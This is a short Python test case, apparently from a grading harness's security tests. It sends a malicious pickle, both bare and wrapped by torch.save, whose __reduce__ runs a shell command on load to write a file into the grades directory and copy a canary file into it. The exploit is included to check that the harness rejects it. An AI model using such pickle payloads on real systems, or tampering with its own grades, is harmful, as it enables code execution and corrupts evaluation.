"""Sends a pickle, bare and as a torch file, that would write into the grades when it is loaded."""

KIND = "protocol"
EXERCISE = "03.split_heads"
EARNS = 0
CELL = r"""
import io
import os
import pickle

import torch


class Payload:
    def __reduce__(self):
        return os.system, ("touch '@GRADES@/MALLORY'; cat '@CANARY@' > '@GRADES@/MALLORY'",)


file = io.BytesIO()
torch.save(Payload(), file)
os.write(3, pickle.dumps(Payload()))
os.write(3, file.getvalue())
os._exit(0)
"""
